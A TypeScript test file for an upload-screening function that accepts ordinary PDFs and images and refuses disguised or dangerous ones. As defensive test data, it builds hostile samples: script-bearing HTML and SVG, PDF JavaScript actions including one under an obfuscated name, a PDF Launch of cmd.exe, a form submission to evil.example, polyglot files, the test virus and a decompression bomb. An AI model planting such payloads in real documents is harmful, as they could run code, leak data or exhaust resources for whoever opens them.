import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import * as fc from 'fast-check';
import { PDFName } from 'pdf-lib';
import { describe, expect, test } from 'vitest';
import type { FileType } from '../../../events/files.ts';
import { Refusal } from '../../../core/refusal.ts';
import { screen } from '../../../functions/files/screen.ts';
import { jpeg, pdf, png, testVirus, withAction, withLink, withOpening, zip } from './sample-files.ts';

const declared = (content: Uint8Array, type: FileType) => ({
  type,
  bytes: content.length,
  sha256: createHash('sha256').update(content).digest('hex'),
});
const judge = async (content: Uint8Array, type: FileType, said = declared(content, type)): Promise<string> =>
  screen(content, said).then(
    ({ embeds }) => (embeds ? 'embeds' : 'taken'),
    (error: unknown) => {
      if (error instanceof Refusal) return error.code;
      throw error;
    },
  );
const [isPdf, isJpeg, isPng] = ['application/pdf', 'image/jpeg', 'image/png'] as const;

/** A stream that no table of the document mentions, packed. */
const withStream = async (content: string | Buffer, dictionary = '/Filter /FlateDecode'): Promise<Buffer> => {
  const file = Buffer.from(await pdf());
  const packed = deflateSync(content, { level: 9 });
  const object = Buffer.concat([
    Buffer.from(`\n77 0 obj\n<< ${dictionary} /Length ${packed.length} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
  const after = file.indexOf('\n') + 1;
  return Buffer.concat([file.subarray(0, after), object, file.subarray(after)]);
};

describe('papers are taken', () => {
  test.each<[string, () => Uint8Array | Promise<Uint8Array>, FileType]>([
    ['a PDF', () => pdf(), isPdf],
    ['a PDF with packed objects', () => pdf().then(async () => withAction({ S: 'GoTo' }, true)), isPdf],
    ['a PDF with a link', () => withLink('https://dichvucong.gov.vn'), isPdf],
    ['a PDF that opens at one of its pages', () => withOpening('[3 0 R /Fit]'), isPdf],
    ['a JPEG', () => jpeg(), isJpeg],
    ['a photograph of 12 megapixels', () => jpeg(4000, 3000), isJpeg],
    ['a JPEG with a second picture behind, as cameras make them', () => Buffer.concat([jpeg(), jpeg(1, 1)]), isJpeg],
    ['a JPEG that is filled up', () => Buffer.concat([jpeg(), Buffer.alloc(64)]), isJpeg],
    ['a PNG', () => png(), isPng],
  ])('%s', async (_what, make, type) => {
    expect(await judge(await make(), type)).toBe('taken');
  });
});

describe('what is refused, and why', () => {
  const page = '<!DOCTYPE html><html><script>alert(1)</script></html>';
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
  test.each<[string, () => Uint8Array | Promise<Uint8Array>, FileType, string]>([
    ['a page that is called PDF', () => Buffer.from(page), isPdf, 'file-type-unknown'],
    ['a drawing with a script', () => Buffer.from(svg), isPng, 'file-type-unknown'],
    ['an archive, or a document of an office program', () => zip(), isPdf, 'file-type-unknown'],
    ['an old document of an office program', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), isPdf, 'file-type-unknown'],
    ['a program', () => Buffer.from('MZ\x90\x00'), isJpeg, 'file-type-unknown'],
    ['a TIFF', () => Buffer.from('II*\x00'), isJpeg, 'file-type-unknown'],
    ['nothing but zeros', () => Buffer.alloc(100), isPdf, 'file-type-unknown'],
    ['junk before a PDF', async () => Buffer.concat([Buffer.from('x'), await pdf()]), isPdf, 'file-type-unknown'],
    ['a PNG that is called JPEG', () => png(), isJpeg, 'file-type-differs'],
    ['a JPEG that is called PDF', () => jpeg(), isPdf, 'file-type-differs'],
    ['a JPEG with a PDF in its comment', () => jpeg(2, 2, '%PDF-1.7'), isJpeg, 'file-two-in-one'],
    ['a JPEG with a page in its comment', () => jpeg(2, 2, page), isJpeg, 'file-two-in-one'],
    ['a JPEG with an archive behind', () => Buffer.concat([jpeg(), zip()]), isJpeg, 'file-two-in-one'],
    [
      'a JPEG with a film behind',
      () => Buffer.concat([jpeg(), Buffer.from('\0\0\0\x18ftypmp42')]),
      isJpeg,
      'file-two-in-one',
    ],
    ['a PNG with something behind', () => Buffer.concat([png(), Buffer.from('<?php')]), isPng, 'file-two-in-one'],
    ['a PDF that is an archive too', async () => Buffer.concat([await pdf(), zip()]), isPdf, 'file-two-in-one'],
    ['a JPEG that ends early', () => jpeg().subarray(0, 40), isJpeg, 'file-damaged'],
    ['a JPEG without a picture', () => Buffer.from([0xff, 0xd8, 0xff, 0xd9]), isJpeg, 'file-damaged'],
    ['a PNG that ends early', () => png().subarray(0, 50), isPng, 'file-damaged'],
    ['a PDF of nothing', () => Buffer.from('%PDF-1.7\n%%EOF'), isPdf, 'file-damaged'],
    ['a picture of more pixels than memory', () => png(60_000, 60_000), isPng, 'file-too-dense'],
    ['a photograph of more pixels than memory', () => jpeg(65_000, 65_000), isJpeg, 'file-too-dense'],
    ['a PDF with JavaScript', () => withAction({ S: 'JavaScript', JS: 'app.alert(1)' }), isPdf, 'file-active'],
    ['a PDF with packed JavaScript', () => withAction({ S: 'JavaScript', JS: 'x' }, true), isPdf, 'file-active'],
    ['a PDF with JavaScript under another spelling', async () => withStream('/J#61vaScript'), isPdf, 'file-active'],
    ['a PDF that opens an address', () => withAction({ S: 'URI', URI: 'https://x.vn' }), isPdf, 'file-active'],
    [
      'a PDF that opens an address after a page',
      () => withOpening('<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://x.vn)>>>>'),
      isPdf,
      'file-active',
    ],
    [
      'a PDF with a picture of more pixels than memory',
      async () => withStream('x', '/Subtype /Image /Width 60000 /Height 60000 /Filter /FlateDecode'),
      isPdf,
      'file-too-dense',
    ],
    ['a PDF that starts a program', () => withAction({ S: 'Launch', F: 'cmd.exe' }), isPdf, 'file-active'],
    [
      'a PDF that sends its form',
      () => withAction({ S: 'SubmitForm', F: 'https://evil.example' }),
      isPdf,
      'file-active',
    ],
    [
      'a PDF that does something when it is closed',
      async () =>
        pdf((document) => {
          document.catalog.set(PDFName.of('AA'), document.context.obj({ WC: { S: 'Named', N: 'Print' } }));
        }),
      isPdf,
      'file-active',
    ],
    [
      'a PDF of 201 pages',
      async () =>
        pdf((document) => {
          for (let number = 0; number < 200; number++) document.addPage([10, 10]);
        }),
      isPdf,
      'file-too-long',
    ],
    ['the test virus by itself', () => Buffer.from(testVirus), isPdf, 'file-infected'],
    ['a JPEG with the test virus', () => jpeg(2, 2, testVirus), isJpeg, 'file-infected'],
    ['a PDF with the test virus, packed', () => withStream(testVirus), isPdf, 'file-infected'],
    ['a PDF that unpacks to 200 MB', () => withStream(Buffer.alloc(200 * 2 ** 20)), isPdf, 'file-too-dense'],
    [
      'the same under another spelling',
      () => withStream(Buffer.alloc(200 * 2 ** 20), '/Filter [/Fl#61teDecode]'),
      isPdf,
      'file-too-dense',
    ],
  ])('%s: %#', async (_what, make, type, reason) => {
    expect(await judge(await make(), type)).toBe(reason);
  });

  test('a file other than the one that was announced', async () => {
    const content = png();
    const said = declared(content, isPng);
    expect(await judge(content, isPng, { ...said, bytes: said.bytes + 1 })).toBe('file-changed');
    expect(await judge(content, isPng, { ...said, sha256: '0'.repeat(64) })).toBe('file-changed');
  });

  test('a PDF that is locked', async () => {
    const locked = Buffer.from(
      Buffer.from(await pdf())
        .toString('latin1')
        .replace('/Root', '/Encrypt 1 0 R /Root'),
      'latin1',
    );
    expect(await judge(locked, isPdf)).toBe('file-encrypted');
  });

  test('a PDF with a file in it is told apart: only a result of ours may have one', async () => {
    const content = await pdf(async (document) => document.attach(Buffer.from('x'), 'x.exe'));
    expect(await judge(content, isPdf)).toBe('embeds');
  });
});

test('whatever comes is taken or refused with a reason, and never breaks the screening', async () => {
  const whole = Buffer.from(await pdf());
  const some = [whole, jpeg(), png()] as const;
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...some),
      fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 12 }),
      fc.nat(),
      async (file, changes, cut) => {
        const content = Buffer.from(cut % 3 === 0 ? file.subarray(0, cut % file.length) : file);
        for (const [at, byte] of changes) if (content.length > 0) content[at % content.length] = byte;
        const type = file === whole ? isPdf : file === some[1] ? isJpeg : isPng;
        expect(await judge(content, type)).toMatch(/^(taken|embeds|file-[a-z-]+)$/);
      },
    ),
    { numRuns: 300 },
  );
});
